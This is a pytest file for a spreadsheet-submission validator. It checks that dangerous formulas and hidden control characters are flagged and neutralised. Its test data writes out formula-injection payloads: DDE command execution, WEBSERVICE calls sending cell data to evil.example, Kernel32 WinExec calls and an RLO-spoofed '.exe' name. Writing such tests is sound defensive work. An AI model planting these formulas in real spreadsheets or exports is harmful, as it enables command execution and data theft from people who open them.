"""Formulas that reach outside a workbook and invisible control characters are flagged and never passed on live."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import openpyxl
import pytest
from builders import HEADER, activity, write_xlsx
from hostile_files import _ODS_NS, ods_bytes

from itu_contrib.annotation import annotate_workbook
from itu_contrib.cli import main
from itu_contrib.reading import load

#: (cell, formula) in column T, which has no header: found wherever they sit in a sheet read.
DANGEROUS = {
    "T2": "=cmd|' /C calc'!A0",
    "T3": '=WEBSERVICE("http://evil.example/?"&A2)',
    "T4": '=FILTERXML(WEBSERVICE("http://evil.example/x"),"//a")',
    "T5": '=HYPERLINK("file:///C:/Windows/System32/calc.exe","open")',
    "T6": "=[1]Prices!B2",
    "T7": '=CALL("Kernel32","WinExec","JCJ","calc.exe",0)',
    "T8": '=REGISTER("Kernel32","WinExec","JCJ")',
    "T9": "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
}
SAFE = {
    "T10": "=SUM(1,2)",
    "T11": '=HYPERLINK("https://www.itu.int/","ITU")',
    "T12": '=A2&" | "&B2',
}


def formula_workbook(path: Path) -> Path:
    """A submission as a sender's Excel would save it: activity rows, and formulas beside the table."""
    rows = [HEADER] + [activity(n) for n in range(1, 12)]
    write_xlsx(path, {"Activities": rows})
    wb = openpyxl.load_workbook(path)
    ws = wb["Activities"]
    for ref, formula in {**DANGEROUS, **SAFE}.items():
        ws[ref] = formula
    wb.calculation.fullCalcOnLoad = True  # as a hostile sender would set it
    wb.save(path)
    return path


def test_dangerous_formulas_are_warnings_at_their_cells(tmp_path: Path) -> None:
    """DDE, web, native-call, external-workbook and non-web HYPERLINK formulas are dangerous-formula warnings."""
    result = load(formula_workbook(tmp_path / "f.xlsx"))
    found = {p.cell: p for p in result.problems if p.code == "dangerous-formula"}
    assert set(found) == set(DANGEROUS)
    assert all(p.severity == "warning" and p.sheet == "Activities" for p in found.values())
    assert found["T2"].value == DANGEROUS["T2"]
    assert "DDE" in found["T2"].message
    assert "WEBSERVICE" in found["T3"].message


def test_dangerous_formula_in_ods(tmp_path: Path) -> None:
    """An ODS cell whose formula calls a web service is a dangerous-formula warning at its cell."""
    cell = '<table:table-cell office:value-type="string"><text:p>{}</text:p></table:table-cell>'
    header = "".join(cell.format(h) for h in HEADER)
    formula = (
        '<table:table-cell table:formula="of:=COM.MICROSOFT.WEBSERVICE(&quot;http://evil.example/&quot;)" '
        'office:value-type="string"><text:p>x</text:p></table:table-cell>'
    )
    data = "".join(cell.format(v if v is not None else "") for v in activity(1)[:2]) + formula
    rows = f"<table:table-row>{header}</table:table-row><table:table-row>{data}</table:table-row>"
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {_ODS_NS} office:version="1.3">'
        f'<office:body><office:spreadsheet><table:table table:name="Activities">{rows}</table:table>'
        "</office:spreadsheet></office:body></office:document-content>"
    )
    path = tmp_path / "f.ods"
    path.write_bytes(ods_bytes(content))
    found = [(p.sheet, p.cell) for p in load(path).problems if p.code == "dangerous-formula"]
    assert found == [("Activities", "C2")]


def test_annotated_copy_neither_recalculates_nor_keeps_dangerous_formulas(tmp_path: Path) -> None:
    """The annotated copy does not force recalculation; dangerous formulas become text, others stay formulas."""
    source = formula_workbook(tmp_path / "f.xlsx")
    dest = annotate_workbook(source, list(load(source).problems), tmp_path / "out.xlsx")
    with zipfile.ZipFile(dest) as zf:
        assert b"fullCalcOnLoad" not in zf.read("xl/workbook.xml").replace(b'fullCalcOnLoad="0"', b"")
        sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/")]
        xml = b"".join(zf.read(n) for n in sheets)
        assert not [n for n in zf.namelist() if "externalLink" in n]
    assert b"<f>SUM(1,2)</f>" in xml
    for formula in DANGEROUS.values():
        body = formula[1:].replace("&", "&amp;").replace('"', "&quot;").encode()
        assert b"<f>" + body not in xml
        assert b"<f>" + body.replace(b"&quot;", b'"') not in xml
    ws = openpyxl.load_workbook(dest)["Activities"]
    for ref, formula in DANGEROUS.items():
        assert ws[ref].data_type == "s"
        assert ws[ref].value == formula
        assert ws[ref].quotePrefix
    for ref, formula in SAFE.items():
        assert ws[ref].data_type == "f"
        assert ws[ref].value == formula


RLO = "\u202e"
CONTROLS = {"D2": f"Invoice {RLO}fdp.exe", "E3": "Training\x1b[31m in red", "J4": "ongoing\u2066"}


def control_workbook(path: Path) -> Path:
    """A workbook whose title, description and status cells hold a bidi override, an escape and an isolate."""
    rows = [HEADER, activity(1, title=CONTROLS["D2"]), activity(2, description=CONTROLS["E3"]), activity(3)]
    rows.append(activity(4))
    rows[2] = activity(2, description="Training ESCAPE[31m in red")
    write_xlsx(path, {"Activities": rows})
    wb = openpyxl.load_workbook(path)
    wb["Activities"]["J4"] = CONTROLS["J4"]
    wb.save(path)
    # XML cannot hold U+001B: Excel writes it as _x001B_, which readers decode
    with zipfile.ZipFile(path) as zf:
        members = {n: zf.read(n).replace(b"ESCAPE", b"_x001B_") for n in zf.namelist()}
    with zipfile.ZipFile(path, "w") as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return path


def test_control_characters_are_warnings_at_their_cells(tmp_path: Path) -> None:
    """Bidi overrides and C0 control characters in text cells are control-character warnings at their cells."""
    assert [HEADER[i] for i in (3, 4, 9)] == ["Activity title", "Description", "Status"]  # columns D, E, J
    result = load(control_workbook(tmp_path / "c.xlsx"))
    found = {p.cell: p for p in result.problems if p.code == "control-character"}
    assert set(found) == set(CONTROLS)
    assert "U+202E" in found["D2"].message
    assert RLO not in (found["D2"].value or "")
    assert "U+001B" in found["E3"].message


def test_csv_input_control_characters(tmp_path: Path) -> None:
    """A CSV cell holding a right-to-left override is a warning at its cell too."""
    buf = io.StringIO()
    writer = csv.writer(buf)
    writer.writerow(HEADER)
    writer.writerow(["" if v is None else v for v in activity(1, partners=f"Cisco{RLO}")])
    path = tmp_path / "c.csv"
    path.write_text(buf.getvalue(), encoding="utf-8")
    cells = [p.cell for p in load(path).problems if p.code == "control-character"]
    assert cells == [f"{chr(ord('A') + HEADER.index('Partners'))}2"]


def test_text_outputs_escape_control_characters(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The terminal, CSV and XLSX outputs show bidi overrides and escapes as codes, never raw."""
    path = control_workbook(tmp_path / "c.xlsx")
    main(["validate", str(path), "--year", "2025"])
    shown = capsys.readouterr().out
    assert RLO not in shown
    assert "\x1b" not in shown
    assert "\\u202e" in shown
    for suffix in (".csv", ".xlsx"):
        out = tmp_path / f"tagged{suffix}"
        assert main(["tag", str(path), "--year", "2025", "-o", str(out), "--no-suggest"]) in (0, 1)
        if suffix == ".csv":
            text = out.read_text(encoding="utf-8")
        else:
            wb = openpyxl.load_workbook(out)
            text = "\n".join(str(c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row)
        assert RLO not in text
        assert "\x1b" not in text
        assert "\u2066" not in text
        assert "Invoice \\u202efdp.exe" in text
